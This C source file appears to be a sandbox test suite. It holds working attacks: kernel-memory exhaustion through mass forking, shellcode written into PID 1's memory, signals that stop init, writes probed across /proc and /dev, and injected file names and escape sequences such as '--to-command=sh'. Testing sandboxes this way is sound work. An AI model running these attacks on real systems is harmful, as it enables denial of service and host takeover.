// Attacks that go around what is counted and around the box's ends: memory of the kernel that no process and no file shows, its first
// process, calls with arguments that reach further than they seem to, and what a compiler does for its source.
#include "attacks.h"
#include <ftw.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/xattr.h>
static char page[1 << 20];
/* Bytes of memory that the kernel takes for its own objects; of the whole machine. */
static long objects(void) {
  char line[128];
  long kB = 0;
  FILE* f = fopen("/proc/meminfo", "r");
  while (fgets(line, sizeof line, f))
    if (sscanf(line, "SUnreclaim: %ld kB", &kB) == 1) break;
  fclose(f);
  return kB << 10;
}
/* Runs `work` in so many processes; the box should end before they have. */
static void many(int n, void (*work)(void)) {
  for (int i = 0; i < n; i++)
    if (!fork()) {
      work();
      pause();
    }
  sleep(60);
  LEAK("%d processes", n);
}

// --- memory

static void map_single_pages(void) {
  for (int i = 0; i < 65000; i++)
    if (mmap(0, 4096, i % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED) break;
}
ATTACK(mappings_without_pages) { many(88, map_single_pages); }

static void lock_single_bytes(void) {
  for (int f = 0; f < 200; f++) {
    char n[64];
    snprintf(n, sizeof n, "/box/lock-%d-%d", getpid(), f);
    const int fd = open(n, O_RDWR | O_CREAT, 0600);
    for (int i = 0; i < 1500; i++) {
      struct flock l = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2L * i, .l_len = 1};
      if (fcntl(fd, F_SETLK, &l) < 0) break;
    }
  }
}
ATTACK(locks_of_single_bytes) { many(80, lock_single_bytes); }

static void fill_connections(void) {
  const int listening = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t size = sizeof a;
  bind(listening, (struct sockaddr*)&a, size);
  listen(listening, 128);
  getsockname(listening, (struct sockaddr*)&a, &size);
  for (int i = 0; i < 100; i++) {
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr*)&a, sizeof a) < 0) break;
    const int t = accept(listening, 0, 0);
    for (int end = 0; end < 2; end++)
      for (int tried = 0; tried < 200; tried++)
        if (send(end ? t : s, page, sizeof page, MSG_DONTWAIT) < 0) usleep(1000);
  }
}
ATTACK(buffers_of_connections) { many(24, fill_connections); }

ATTACK(buffers_made_larger) {
  int s[2], asked = 1 << 30, before = 0, after = 0;
  socklen_t size = sizeof before;
  socketpair(AF_UNIX, SOCK_STREAM, 0, s);
  const int which[] = {SO_SNDBUF, SO_RCVBUF, SO_SNDBUFFORCE, SO_RCVBUFFORCE};
  for (int i = 0; i < 4; i++) {
    getsockopt(s[0], SOL_SOCKET, i % 2 ? SO_RCVBUF : SO_SNDBUF, &before, &size);
    setsockopt(s[0], SOL_SOCKET, which[i], &asked, sizeof asked);
    getsockopt(s[0], SOL_SOCKET, i % 2 ? SO_RCVBUF : SO_SNDBUF, &after, &size);
    if (after > before) LEAK("option %d: %d to %d", which[i], before, after);
  }
  TRY("pages of ours in a socket", setsockopt(s[0], SOL_SOCKET, SO_ZEROCOPY, &(int){1}, sizeof(int)));
}

ATTACK(pages_that_only_pipes_hold) {
  int p[2];
  char* a = mmap(0, 4 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  madvise(a, 4 << 20, MADV_HUGEPAGE);
  memset(a, 1, 4 << 20);
  pipe(p);
  struct iovec v = {(char*)(((uintptr_t)a + (2 << 20) - 1) & ~(uintptr_t)((2 << 20) - 1)), 4096};
  TRY("vmsplice", vmsplice(p[1], &v, 1, SPLICE_F_GIFT));
}

ATTACK(pages_of_files_that_are_gone) {
  const long before = objects();
  long moved = 0;
  for (int i = 0; i < 120; i++) {
    int p[2];
    const int f = open("/box/gone", O_RDWR | O_CREAT | O_TRUNC, 0600);
    if (pipe(p) < 0 || write(f, page, 1 << 16) < 0) break;
    fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
    lseek(f, 0, SEEK_SET);
    long n = splice(f, 0, p[1], 0, 1 << 20, 0);
    if (n > 0) moved += n;
    ftruncate(f, 0);
    close(f);
  }
  if (moved > 64 << 20) LEAK("%ld MiB", moved >> 20);
  printf("held: %ld KiB, objects %ld KiB\n", moved >> 10, (objects() - before) >> 10);
}

static void watch_everything(void) {
  struct epoll_event e = {.events = EPOLLIN};
  int p[2], watched[110];
  pipe(p);
  for (int i = 0; i < 110; i++) watched[i] = dup(p[0]);
  for (int i = 0; i < 130; i++) {
    const int one = epoll_create1(0);
    for (int k = 0; one >= 0 && k < 110; k++) epoll_ctl(one, EPOLL_CTL_ADD, watched[k], &e);
  }
}
ATTACK(watches_of_events) {
  const long before = objects();
  for (int i = 0; i < 80; i++)
    if (!fork()) {
      watch_everything();
      pause();
    }
  sleep(4);
  if (objects() - before > 320 << 20) LEAK("%ld MiB", (objects() - before) >> 20);
  puts("held");
}

ATTACK(files_that_travel) {
  long all = 0;
  int s[2];
  socketpair(AF_UNIX, SOCK_DGRAM, 0, s);
  for (int i = 0; i < 20; i++) {
    const int f = open("/box/travels", O_RDWR | O_CREAT, 0600);
    for (int k = 0; k < 60 && write(f, page, sizeof page) == sizeof page; k++) all++;
    unlink("/box/travels");
    char c[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec v = {"x", 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = c, .msg_controllen = sizeof c};
    struct cmsghdr* h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &f, sizeof f);
    if (sendmsg(s[0], &m, MSG_DONTWAIT) < 0) break;
    close(f);
  }
  if (all > 256) LEAK("%ld MiB", all);
  printf("held: %ld MiB\n", all);
}

ATTACK(words_beside_files) {
  for (int i = 0; i < 2000; i++) {
    char n[64];
    snprintf(n, 64, "/box/x%d", i);
    close(open(n, O_CREAT, 0600));
    for (int k = 0; k < 8; k++) {
      char name[32];
      snprintf(name, 32, "user.%d", k);
      if (setxattr(n, name, page, 1 << 16, 0) < 0 && i == 0) puts("no words beside files here: ended for its memory");
    }
  }
  sleep(2);
}

ATTACK(huge_pages) {
  TRY("2 MiB", mmap(0, 2 << 20, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0));
  TRY("1 GiB", mmap(0, 1 << 30, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | 30 << 26, -1, 0));
  if (errno != EPERM) LEAK("left to whether the machine has any");
}

static void hold_at_once(void) {
  char* p = mmap(0, 3L << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  madvise(p, 3L << 30, MADV_HUGEPAGE);
  for (long i = 0; p != MAP_FAILED && i < 3L << 30; i += 4096) p[i] = 1;
}
ATTACK(all_at_once) { many(32, hold_at_once); }

ATTACK(locked_memory) {
  struct rlimit l;
  getrlimit(RLIMIT_MEMLOCK, &l);
  if (l.rlim_max > 1 << 20) LEAK("%lu bytes", (unsigned long)l.rlim_max);
  TRY("mlockall", mlockall(MCL_CURRENT | MCL_FUTURE));
  TRY("more", setrlimit(RLIMIT_MEMLOCK, &(struct rlimit){1 << 30, 1 << 30}));
}

ATTACK(requests_of_the_whole_machine) {
  unsigned long context = 0;
  TRY("aio", syscall(SYS_io_setup, 60000, &context));
}

// --- ends

ATTACK(the_first_process_taken_over) {
#ifdef __x86_64__
  // prctl(PR_SET_PDEATHSIG, 0), then pause() for ever: with its parent it would not end, and all others with it would not.
  static const char code[] = "\xb8\x9d\0\0\0\xbf\1\0\0\0\x31\xf6\x0f\5\xb8\x22\0\0\0\x0f\5\xeb\xf7";
  char told[256] = "";
  unsigned long sp = 0, pc = 0;
  int f = open("/proc/1/syscall", O_RDONLY);
  if (read(f, told, sizeof told - 1) > 0 && strrchr(told, ' ')) pc = strtoul(strrchr(told, ' '), 0, 16);
  close(f);
  f = open("/proc/1/mem", O_RDWR);
  printf("pc %lx sp %lx, %s\n", pc, sp, pc && pwrite(f, code, sizeof code - 1, (off_t)pc) > 0 ? "written" : strerror(errno));
  daemonized();  // the first process reaps its parent, and wakes up in the code
#endif
  daemonized();
  for (;;) pause();
}

ATTACK(those_above_stopped) {
  kill(1, SIGSTOP);
  kill(getppid(), SIGSTOP);
  kill(0, SIGSTOP);
  for (;;) pause();
}

ATTACK(signals_that_do_not_count) {
  for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_SETMASK, &all, 0);
  prctl(PR_SET_CHILD_SUBREAPER, 1);
  for (int i = 0; i < 20; i++) fork();
  for (;;) pause();
}

ATTACK(what_a_crash_starts) {
  struct rlimit l;
  getrlimit(RLIMIT_CORE, &l);
  // With 1 the kernel neither writes a file nor starts the machine's own handler, which would be root outside of the box.
  if (l.rlim_cur != 1 || l.rlim_max != 1) LEAK("core %lu %lu", (unsigned long)l.rlim_cur, (unsigned long)l.rlim_max);
  TRY("less", setrlimit(RLIMIT_CORE, &(struct rlimit){0, 1}));
  TRY("by another call", syscall(SYS_setrlimit, RLIMIT_CORE, &(struct rlimit){0, 0}));
  if (!fork()) abort();
  wait(0);
  TRY("file", open("core", O_RDONLY));
}

ATTACK(last_of_all_to_be_killed) {
  char told[32] = "";
  int f = open("/proc/self/oom_score_adj", O_RDWR);
  read(f, told, 31);
  if (atoi(told) != 1000) LEAK("%s", told);
  TRY("none", pwrite(f, "-1000", 5, 0));
  puts("held");
}

// --- calls

ATTACK(families_by_pairs) {
  int s[2];
  for (int family = 2; family < 47; family++)
    if (socketpair(family, SOCK_STREAM, 0, s) == 0 || errno != EAFNOSUPPORT) LEAK("%d: %s", family, strerror(errno));
  puts("held");
}

ATTACK(protocols_that_load_modules) {
  const int inet[] = {1, 33, 46, 115, 132, 136, 255, 262};
  for (int i = 0; i < 8; i++)
    for (int type = 1; type < 7; type++)
      if (socket(AF_INET, type, inet[i]) >= 0 || errno != EAFNOSUPPORT) LEAK("inet %d %d: %s", type, inet[i], strerror(errno));
  for (int protocol = 1; protocol < 24; protocol++)
    if (socket(AF_NETLINK, SOCK_RAW, protocol) >= 0 || errno != EAFNOSUPPORT) LEAK("netlink %d: %s", protocol, strerror(errno));
  const int route = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  if (route < 0) LEAK("names of interfaces are needed");
  puts("held");
}

/* What is not of the box's own file system or its own processes, tried with a byte that changes nothing where it is refused. */
static int opened_for_writing(const char* path, const struct stat* st, int type, struct FTW* at) {
  if (type != FTW_F || S_ISCHR(st->st_mode) || strncmp(path, "/box/", 5) == 0) return 0;
  if (strncmp(path, "/proc/self/", 11) == 0 || strncmp(path, "/proc/thread-self/", 18) == 0) return 0;
  if (strncmp(path, "/proc/", 6) == 0 && path[6] >= '0' && path[6] <= '9') return 0;
  const int f = open(path, O_WRONLY | O_NONBLOCK);
  if (f >= 0 && write(f, "x", 1) > 0) LEAK("%s", path);
  if (f >= 0) close(f);
  (void)at;
  return 0;
}
ATTACK(writing_anywhere) {
  struct statvfs v;
  const char* some[] = {"/", "/box", "/proc", "/usr", "/etc/alternatives"};
  for (int i = 0; i < 5; i++) {
    if (statvfs(some[i], &v)) continue;
    if (!(v.f_flag & ST_NOSUID)) LEAK("programs of other users in %s", some[i]);
    if (i > 2 && !(v.f_flag & ST_RDONLY)) LEAK("%s can be written", some[i]);
  }
  nftw("/proc", opened_for_writing, 40, FTW_PHYS | FTW_MOUNT);
  nftw("/dev", opened_for_writing, 40, FTW_PHYS);
  char way[64];
  snprintf(way, sizeof way, "/proc/self/fd/%d", open("/proc/1/exe", O_PATH));
  TRY("the box's own program", open(way, O_WRONLY));
  puts("held");
}

// --- names

ATTACK(names_that_are_none) {
  right("");
  const char* names[] = {"a\nb", "rank-0.state\n", "rank-00.state", "rank-9999999.state", "-rf", "--to-command=sh", "\033]0;x\007", "\xff\xfe"};
  for (int i = 0; i < 8; i++) {
    state(names[i], 0, 2, 1, 2, "");
    symlink("/etc", names[i]);
  }
  mkdir("rank-1.state.d", 0);
}

ATTACK(a_deep_tree) {
  right("");
  const int here = open(".", O_RDONLY);
  for (int i = 0; i < 15000 && mkdir("d", 0700) == 0 && chdir("d") == 0; i++);
  fchdir(here);
}

ATTACK(a_file_that_grows_as_it_is_read) {
  right("");
  daemonized();
  for (;;) {
    truncate("rank-0.txt", 3 << 20);
    truncate("rank-0.txt", 40);
  }
}

ATTACK(lines_of_other_ranks) { right("1 send 0 0 8 6\n1 finalize\n7 init\n-1 init\n0 send -5 0 8 6\n0 send 1 -9 -8 6\n0 compute 1e400\n"); }

ATTACK(counts_beyond_all) { right("0 bcast 9223372036854775807 0 0\n0 alltoall 1e300 1e300\n0 send 1 0 99999999999999999999 42\n"); }

ATTACK(a_zero_in_a_line) {
  right("");
  FILE* f = fopen("rank-0.txt", "r+b");
  fseek(f, 30, SEEK_SET);
  fwrite("\0", 1, 1, f);
  fclose(f);
}

ATTACK(words_for_terminals) { right("0 \xc2\x9b""31m\xc2\x9d""0;pwned\xc2\x9c 8 6\n"); }
